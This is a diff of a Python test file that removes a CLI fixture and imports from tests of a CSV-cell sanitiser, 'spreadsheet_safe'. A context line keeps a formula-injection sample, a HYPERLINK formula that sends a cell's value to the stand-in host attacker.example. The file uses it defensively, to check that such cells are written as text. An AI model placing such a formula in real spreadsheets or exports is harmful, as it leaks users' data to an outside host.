@@ -14,9 +14,7 @@ import io
 import json
 
 import pytest
-from click.testing import CliRunner
 
-from partnerkit.cli import cli
 from partnerkit.csvcell import spreadsheet_safe
 from reconcile.matcher import match_day
 from tests.reconcile.reconcile_helpers import DAY, at
@@ -40,14 +38,6 @@ FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"refund")'
 ])
 def test_a_cell_a_spreadsheet_would_run_is_written_as_text(text, written):
     assert spreadsheet_safe(text) == written
-
-
-@pytest.fixture
-def invoke(db_path, tmp_path, monkeypatch):
-    monkeypatch.setenv("PARTNERKIT_DB", str(db_path))
-    monkeypatch.setenv("PARTNERKIT_REPORT_DIR", str(tmp_path / "reports"))
-    runner = CliRunner()
-    return lambda *args: runner.invoke(cli, list(args))
 
 
 @pytest.fixture
